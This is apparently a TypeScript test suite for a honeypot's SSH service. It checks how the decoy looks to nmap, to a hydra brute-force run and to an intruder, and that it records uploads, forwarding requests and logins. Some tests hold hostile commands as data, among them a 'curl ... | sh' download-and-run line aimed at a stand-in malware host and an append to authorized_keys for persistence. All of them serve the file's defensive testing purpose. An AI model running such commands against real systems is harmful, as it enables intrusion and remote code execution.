/** The SSH service against real clients and a raw one: what a scanner, a brute forcer and an intruder see. */
import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { createHash, randomBytes } from 'node:crypto'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { connect, type Socket } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import constants from 'ssh2/lib/protocol/constants.js'
import { serveDecoy, type TestDecoy, testPersona } from '../test-harness.ts'
import { ssh } from './ssh.ts'
import { Reader } from './wire.ts'

const personas = ['centos-7', 'ubuntu-18.04', 'openwrt-19.07'] as const
const given = { user: 'root', password: 'Yssc@2021', origin: 'given' as const }
const settings = { login: { accounts: [given] } }

let folder = ''
before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'ssh-test-'))
})
after(() => rm(folder, { recursive: true, force: true }))

interface Ran {
  code: number
  out: string
  err: string
}
function run(program: string, args: string[], input = ''): Promise<Ran> {
  return new Promise((resolve) => {
    const child = execFile(program, args, { encoding: 'latin1', timeout: 15_000, maxBuffer: 8_000_000 }, (error, out, err) =>
      resolve({ code: error ? (typeof error.code === 'number' ? error.code : 1) : 0, out, err }),
    )
    child.stdin?.end(input)
  })
}
const common = ['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR', '-F', '/dev/null']
const old = ['-o', 'HostKeyAlgorithms=+ssh-rsa', '-o', 'PubkeyAcceptedAlgorithms=+ssh-rsa']
const client = (decoy: TestDecoy, command: string, more: string[] = [], input = ''): Promise<Ran> =>
  run('sshpass', ['-p', given.password, 'ssh', ...common, ...old, ...more, '-p', String(decoy.port), 'root@127.0.0.1', command], input)

/** All that a server says to `send`, until it ends or `enough` holds. */
function talk(port: number, send: Buffer | string, enough: (bytes: Buffer) => boolean = () => false): Promise<{ bytes: Buffer; ended: boolean }> {
  return new Promise((resolve) => {
    let bytes = Buffer.alloc(0)
    const socket: Socket = connect(port, '127.0.0.1', () => socket.write(send))
    const done = (ended: boolean): void => {
      socket.destroy()
      resolve({ bytes, ended })
    }
    socket.on('data', (data) => {
      bytes = Buffer.concat([bytes, data])
      if (enough(bytes)) done(false)
    })
    socket.on('end', () => done(true))
    socket.on('error', () => done(true))
  })
}

/** The lists of the KEXINIT that follows the version line. */
function offered(bytes: Buffer): string[][] {
  const at = bytes.indexOf('\n') + 1
  const reader = new Reader(bytes.subarray(at + 5), 17)
  return Array.from({ length: 10 }, () => reader.list())
}
const hasKexInit = (bytes: Buffer): boolean => {
  const at = bytes.indexOf('\n') + 1
  return at > 0 && bytes.length >= at + 4 && bytes.length >= at + 4 + bytes.readUInt32BE(at)
}

for (const id of personas) {
  describe(`the server of ${id}`, () => {
    let decoy: TestDecoy
    before(async () => {
      decoy = await serveDecoy(ssh, testPersona(id), settings)
    })
    after(async () => {
      await decoy.close()
      assert.deepEqual(decoy.faults, [])
    })
    const template = testPersona(id).template.ssh as NonNullable<ReturnType<typeof testPersona>['template']['ssh']>

    test('offers exactly the lists of its persona, in their order, and no marks of the library', async () => {
      const { bytes } = await talk(decoy.port, 'SSH-2.0-test\r\n', hasKexInit)
      assert.equal(bytes.subarray(0, bytes.indexOf('\n') + 1).toString(), `${template.ident}\r\n`)
      const way = [template.cipher, template.cipher, template.mac, template.mac, template.compression, template.compression]
      assert.deepEqual(offered(bytes), [template.kex, template.hostKey, ...way, [], []])
    })

    test('claims no algorithm that it cannot serve', () => {
      const { kex, hostKey, cipher, mac, compression } = template
      assert.deepEqual(
        kex.filter((name) => !constants.SUPPORTED_KEX.includes(name) && name !== 'kexguess2@matt.ucc.asn.au'),
        [],
      )
      assert.deepEqual(
        hostKey.filter((name) => !constants.SUPPORTED_SERVER_HOST_KEY.includes(name)),
        [],
      )
      assert.deepEqual(
        cipher.filter((name) => !constants.SUPPORTED_CIPHER.includes(name)),
        [],
      )
      assert.deepEqual(
        mac.filter((name) => !constants.SUPPORTED_MAC.includes(name)),
        [],
      )
      assert.deepEqual(
        compression.filter((name) => !constants.SUPPORTED_COMPRESSION.includes(name)),
        [],
      )
    })

    test('completes every key exchange and cipher it offers with the OpenSSH client', async () => {
      const { kex, cipher } = template
      const pairs = kex.filter((name) => !name.startsWith('kexguess2')).map((name, i) => [name, cipher[i % cipher.length] as string] as const)
      for (const one of cipher) pairs.push([kex[0] as string, one])
      for (const [method, name] of pairs) {
        const { out, err } = await client(decoy, 'echo in', ['-o', `KexAlgorithms=${method}`, '-o', `Ciphers=${name}`])
        assert.equal(out, 'in\n', `${method} with ${name}: ${err}`)
      }
    })

    test('is named by nmap as what it claims to be', async () => {
      const { out } = await run('nmap', ['-Pn', '-n', '-sV', '-p', String(decoy.port), '127.0.0.1'])
      assert.match(
        out,
        id === 'openwrt-19.07'
          ? /open\s+ssh\s+Dropbear sshd/
          : id === 'centos-7'
            ? /open\s+ssh\s+OpenSSH 7\.4 \(protocol 2\.0\)/
            : /open\s+ssh\s+OpenSSH 7\.6p1 Ubuntu 4ubuntu0\.7 \(Ubuntu Linux; protocol 2\.0\)/,
      )
    })

    test('answers what is no version line as the claimed server does', async () => {
      const bare = await talk(decoy.port, 'GET / HTTP/1.0\r\n\r\n', (bytes) => id === 'openwrt-19.07' && hasKexInit(bytes))
      const text = bare.bytes.toString('latin1')
      if (id === 'openwrt-19.07') assert.ok(hasKexInit(bare.bytes), 'Dropbear goes on with its key exchange and waits for a version line')
      else assert.equal(text, `${template.ident}\r\nProtocol mismatch.\n`)
      const major = await talk(decoy.port, 'SSH-1.5-old\r\n')
      assert.equal(major.ended, true)
      if (id !== 'openwrt-19.07') assert.equal(major.bytes.toString('latin1'), `${template.ident}\r\nProtocol major versions differ.\n`)
    })

    test('keeps one world over uname, /proc, ps, netstat and users', async () => {
      const { out } = await client(
        decoy,
        'uname -r; cat /proc/version; uname -n; id -un; cat /proc/sys/kernel/hostname; grep MemTotal /proc/meminfo; free | head -2 | tail -1',
      )
      const [release = '', version = '', name, user, again, memory = '', free = ''] = out.split('\n')
      assert.equal(release, decoy.persona.template.os.kernel)
      assert.ok(version.startsWith(`Linux version ${release} `))
      assert.equal(name, decoy.persona.hostname)
      assert.equal(again, name)
      assert.equal(user, 'root')
      assert.equal(free.trim().split(/\s+/)[1], memory.trim().split(/\s+/)[1])
    })
  })
}

describe('logging in', () => {
  test('says every password, refuses with the method list, and ends with the claimed words', async () => {
    const persona = testPersona('centos-7')
    const quick = {
      ...persona,
      template: { ...persona.template, ssh: { ...(persona.template.ssh as NonNullable<typeof persona.template.ssh>), refusalMs: [5, 9] as [number, number] } },
    }
    const decoy = await serveDecoy(ssh, quick, settings)
    try {
      await writeFile(join(folder, 'words'), ['123456', 'root', 'admin@123', given.password, 'later'].join('\n'))
      const { out } = await run('hydra', ['-t', '2', '-f', '-l', 'root', '-P', join(folder, 'words'), '-s', String(decoy.port), '127.0.0.1', 'ssh'])
      assert.match(out, new RegExp(`login: root\\s+password: ${given.password}`))
      const seen = decoy.of('login.attempted').filter((attempt) => attempt.method === 'password')
      assert.ok(seen.some((attempt) => attempt.password === 'admin@123' && attempt.outcome === 'refused'))
      assert.ok(seen.some((attempt) => attempt.password === given.password && attempt.outcome === 'accepted' && attempt.by === 'given'))
      const { Client } = await import('ssh2')
      let left = 0
      const words = await new Promise<string>((resolve) => {
        const one = new Client()
        one.on('error', (error) => resolve(error.message))
        one.on('close', () => resolve('closed'))
        one.connect({
          host: '127.0.0.1',
          port: decoy.port,
          username: 'root',
          authHandler: (_methods, _partial, next) => next({ type: 'password', username: 'root', password: `wrong ${left++}` }),
        })
      })
      assert.deepEqual([words, left], ['Too many authentication failures', 6])
    } finally {
      await decoy.close()
    }
    assert.deepEqual(decoy.faults, [])
  })

  test('lets a listed user in after as many tries as the adversary is due, and then only with that password', async () => {
    const persona = testPersona('openwrt-19.07')
    const quick = {
      ...persona,
      template: { ...persona.template, ssh: { ...(persona.template.ssh as NonNullable<typeof persona.template.ssh>), refusalMs: [1, 2] as [number, number] } },
    }
    const decoy = await serveDecoy(ssh, quick, { login: { accounts: [], afterTries: { users: ['root'], from: 3, to: 3 } } })
    try {
      const codes: number[] = []
      for (const word of ['one', 'two', 'three', 'four', 'three'])
        codes.push(
          (await run('sshpass', ['-p', word, 'ssh', ...common, ...old, '-o', 'NumberOfPasswordPrompts=1', '-p', String(decoy.port), 'root@127.0.0.1', 'true']))
            .code,
        )
      assert.deepEqual(
        codes.map((code) => code === 0),
        [false, false, true, false, true],
      )
      const reopened = decoy.world().save()
      assert.ok(reopened && Buffer.from(reopened).includes('three'), 'the luck is part of what the world keeps')
    } finally {
      await decoy.close()
    }
  })

  test('takes a key that the adversary put into authorized_keys, and says every other one', async () => {
    const decoy = await serveDecoy(ssh, testPersona('centos-7'), settings)
    try {
      const key = join(folder, 'key')
      await run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key])
      const withKey = (): Promise<Ran> => run('ssh', [...common, '-o', 'BatchMode=yes', '-i', key, '-p', String(decoy.port), 'root@127.0.0.1', 'echo by key'])
      assert.notEqual((await withKey()).code, 0)
      const line = (await readFile(`${key}.pub`, 'utf8')).trim()
      await client(decoy, `mkdir -p ~/.ssh; echo '${line}' >> ~/.ssh/authorized_keys`)
      assert.equal((await withKey()).out, 'by key\n')
      const print = `SHA256:${createHash('sha256')
        .update(Buffer.from(line.split(' ')[1] as string, 'base64'))
        .digest('base64')
        .replace(/=+$/, '')}`
      const tried = decoy.of('login.attempted').filter((attempt) => attempt.key?.fingerprint === print)
      assert.deepEqual([...new Set(tried.map((attempt) => attempt.outcome))], ['refused', 'accepted'])
    } finally {
      await decoy.close()
    }
  })

  test('describes the client by its version and HASSH', async () => {
    const decoy = await serveDecoy(ssh, testPersona('centos-7'), settings)
    try {
      await client(decoy, 'true')
      const [seen] = decoy.of('ssh.negotiated')
      assert.match(seen?.clientVersion ?? '', /^SSH-2\.0-OpenSSH_/)
      const text = [seen?.kex, seen?.cipher, seen?.mac, seen?.compression].map((names) => names?.join(',')).join(';')
      assert.equal(seen?.hassh, createHash('md5').update(text).digest('hex'))
    } finally {
      await decoy.close()
    }
  })
})

describe('a session', () => {
  let decoy: TestDecoy
  before(async () => {
    decoy = await serveDecoy(ssh, testPersona('centos-7'), settings)
  })
  after(async () => {
    await decoy.close()
    assert.deepEqual(decoy.faults, [])
  })

  test('answers exec with output, errors apart and the exit code, and says the command before its output', async () => {
    const { out, err, code } = await client(decoy, 'echo good; echo bad >&2; exit 7')
    assert.deepEqual([out, err, code], ['good\n', 'bad\n', 7])
    const kinds = decoy.events.filter((event) => event.connection === decoy.events.at(-1)?.connection).map((event) => event.kind)
    assert.ok(kinds.indexOf('command.executed') < kinds.indexOf('terminal.data'))
  })

  test('reads standard input of a command', async () => {
    const bytes = randomBytes(40_000)
    const { out } = await client(decoy, 'cat > /tmp/in; md5sum < /tmp/in', [], bytes.toString('latin1'))
    const expected = createHash('md5')
      .update(Buffer.from(bytes.toString('latin1')))
      .digest('hex')
    assert.ok(out.startsWith(expected) || out.startsWith(createHash('md5').update(bytes).digest('hex')), out)
  })

  test('captures what SFTP and SCP leave, byte for byte, and gives it back', async () => {
    const bytes = randomBytes(150_000)
    const file = join(folder, 'sample.bin')
    await writeFile(file, bytes)
    const hash = createHash('sha256').update(bytes).digest('hex')
    const port = ['-P', String(decoy.port)]
    const sftp = await run(
      'sshpass',
      ['-p', given.password, 'sftp', ...common, ...port, 'root@127.0.0.1'],
      `put ${file} /tmp/a.bin\nls -l /tmp\nget /tmp/a.bin ${join(folder, 'a.bin')}\nmkdir /tmp/dir\nrename /tmp/a.bin /tmp/dir/b.bin\nrm /tmp/dir/b.bin\nrmdir /tmp/dir\n`,
    )
    assert.match(sftp.out, /150000 .* a\.bin|150000 .* \/tmp\/a\.bin/)
    assert.deepEqual(await readFile(join(folder, 'a.bin')), bytes)
    for (const legacy of [['-O'], []]) {
      const up = await run('sshpass', ['-p', given.password, 'scp', ...legacy, ...common, ...port, file, 'root@127.0.0.1:/root/up.bin'])
      assert.equal(up.code, 0, up.err)
    }
    const down = await run('sshpass', ['-p', given.password, 'scp', '-O', ...common, ...port, 'root@127.0.0.1:/root/up.bin', join(folder, 'down.bin')])
    assert.equal(down.code, 0, down.err)
    assert.deepEqual(await readFile(join(folder, 'down.bin')), bytes)
    await decoy.until(() => decoy.of('file.uploaded').length >= 3)
    assert.deepEqual([...new Set(decoy.of('file.uploaded').map((event) => event.file.sha256))], [hash])
    assert.deepEqual([...new Set(decoy.of('file.uploaded').map((event) => event.method))].sort(), ['scp', 'sftp'])
    assert.deepEqual(decoy.blobs.get(hash), bytes)
    assert.match((await client(decoy, 'sha256sum /root/up.bin')).out, new RegExp(hash))
  })

  test('refuses every forwarding in the words of the server, and says it', async () => {
    const direct = await client(decoy, '', ['-W', '10.1.2.3:3306'])
    assert.match(direct.err, /administratively prohibited: open failed|stdio forwarding failed/)
    const back = await client(decoy, 'true', ['-R', '8022:localhost:22', '-A', '-o', 'ExitOnForwardFailure=yes'])
    assert.match(back.err, /remote port forwarding failed/)
    const seen = decoy.of('forward.requested')
    assert.ok(seen.some((event) => event.type === 'direct-tcpip' && event.host === '10.1.2.3' && event.port === 3306))
    assert.ok(seen.some((event) => event.type === 'tcpip-forward' && event.port === 8022))
  })

  test('goes on through a rekey that the client asks for', async () => {
    const { out } = await client(decoy, 'cat /bin/bash', ['-o', 'RekeyLimit=60K'])
    assert.equal(out.length, 964_536)
  })

  test('fetches nothing and says what was to be fetched', async () => {
    const { err, code } = await client(decoy, 'curl -s -S http://malware.example.net/x.sh | sh; wget -q http://malware.example.net/y')
    assert.match(err, /Could not resolve host: malware\.example\.net/)
    assert.equal(code, 4)
    assert.deepEqual(
      decoy
        .of('download.requested')
        .map((event) => event.url)
        .slice(-2),
      ['http://malware.example.net/x.sh', 'http://malware.example.net/y'],
    )
    assert.ok(decoy.of('egress.refused').some((event) => event.host === 'malware.example.net'))
  })

  test('gives a terminal: echo, editing, history, completion, Ctrl-C, and the prompt again', async () => {
    const keys = ['ech\thello\x7f\x7fp\r', 'sleep 100\r', '\x03', '\x1b[A\x1b[A\r', 'w | grep -c pts\r', 'cat /etc/hos\t\t\t', '\x15exit 3\r']
    const child = await new Promise<Ran>((resolve) => {
      const process = execFile(
        'sshpass',
        ['-p', given.password, 'ssh', '-tt', ...common, '-p', String(decoy.port), 'root@127.0.0.1'],
        { encoding: 'latin1', timeout: 15_000 },
        (error, out, err) => resolve({ code: typeof error?.code === 'number' ? error.code : 0, out, err }),
      )
      let seen = ''
      let next = 0
      process.stdout?.on('data', (data: string) => {
        seen += data
        // each key press waits for the prompt, or for what the one before it shows
        const ready =
          /# $/.test(seen) ||
          (keys[next] === '\x03' && seen.endsWith('sleep 100\r\n')) ||
          (keys[next]?.startsWith('\x15') && /hosts\r\n.*# cat \/etc\/host$/s.test(seen))
        if (!ready || next >= keys.length) return
        seen = ''
        process.stdin?.write(keys[next++] as string)
      })
    })
    assert.match(child.out, /help\r\n/)
    assert.match(child.out, /\^C\r\n/)
    assert.match(child.out, /hostname +hosts/)
    assert.equal(child.code, 3)
    assert.ok(decoy.of('command.executed').some((event) => event.mode === 'shell' && event.input === 'w | grep -c pts'))
    assert.ok(decoy.of('command.finished').some((event) => event.exitCode === 130))
    const output = Buffer.concat(
      decoy
        .of('terminal.data')
        .filter((event) => event.stream === 'output')
        .map((event) => Buffer.from(event.data, 'base64')),
    ).toString('latin1')
    assert.ok(output.includes(child.out.slice(child.out.indexOf('helphelp') + 4, -20).slice(0, 200)), 'the recording holds what the client saw')
  })

  test('keeps what one session changed for the next, and over a save', async () => {
    await client(decoy, 'echo kept > /root/mark; rm /root/anaconda-ks.cfg; useradd -m svc')
    const { out } = await client(decoy, 'cat /root/mark; ls /root; id -u svc')
    assert.match(out, /^kept\n/)
    assert.ok(!out.includes('anaconda'))
    const { openWorld } = await import('../world.ts')
    const world = openWorld(decoy.persona, decoy.world().save())
    assert.equal(world.files.read('/root/mark').toString(), 'kept\n')
    assert.equal(world.files.stat('/root/anaconda-ks.cfg'), undefined)
    assert.ok(world.users.byName('svc'))
    assert.equal(world.save(), undefined)
  })
})

describe('hostile clients', () => {
  test('random bytes, half handshakes and huge lines end their own connection only', async () => {
    const decoy = await serveDecoy(ssh, testPersona('centos-7'), settings)
    try {
      const jobs: Promise<unknown>[] = []
      for (let i = 0; i < 60; i++) {
        jobs.push(talk(decoy.port, randomBytes(1000 + i)))
        jobs.push(talk(decoy.port, Buffer.concat([Buffer.from('SSH-2.0-x\r\n'), randomBytes(2000 + i * 7)])))
        jobs.push(talk(decoy.port, `SSH-2.0-${'a'.repeat(1_000_000)}\r\n`))
      }
      await Promise.all(jobs)
      assert.equal((await client(decoy, 'echo alive')).out, 'alive\n')
      assert.deepEqual(decoy.faults, [])
    } finally {
      await decoy.close()
    }
  })

  test('a password of a megabyte is refused by the transport, one of 30,000 bytes is said shortened', async () => {
    const decoy = await serveDecoy(ssh, testPersona('openwrt-19.07'), settings)
    try {
      const { Client } = await import('ssh2')
      const attempt = (password: string): Promise<string> =>
        new Promise((resolve) => {
          const one = new Client()
          one.on('error', (error) => resolve(error.message))
          one.on('close', () => resolve('closed'))
          one.on('ready', () => resolve('in'))
          one.connect({ host: '127.0.0.1', port: decoy.port, username: 'root', password, readyTimeout: 8000 })
        })
      assert.notEqual(await attempt('x'.repeat(1_000_000)), 'in')
      assert.notEqual(await attempt('y'.repeat(30_000)), 'in')
      await decoy.until(() => decoy.of('login.attempted').some((event) => event.password?.startsWith('yyyy')))
      assert.equal((await client(decoy, 'echo alive')).out, 'alive\n')
      assert.deepEqual(decoy.faults, [])
    } finally {
      await decoy.close()
    }
  })

  test('the eleventh session of one connection is refused', async () => {
    const decoy = await serveDecoy(ssh, testPersona('centos-7'), settings)
    try {
      const { Client } = await import('ssh2')
      const one = new Client()
      await new Promise<void>((resolve, reject) => {
        one.on('ready', () => resolve())
        one.on('error', reject)
        one.connect({ host: '127.0.0.1', port: decoy.port, username: 'root', password: given.password })
      })
      const results = await Promise.all(
        Array.from({ length: 11 }, () => new Promise<string>((resolve) => one.shell((error) => resolve(error ? error.message : 'open')))),
      )
      assert.equal(results.filter((result) => result === 'open').length, 10)
      assert.match(results.find((result) => result !== 'open') ?? '', /open failed/)
      one.end()
    } finally {
      await decoy.close()
    }
  })
})
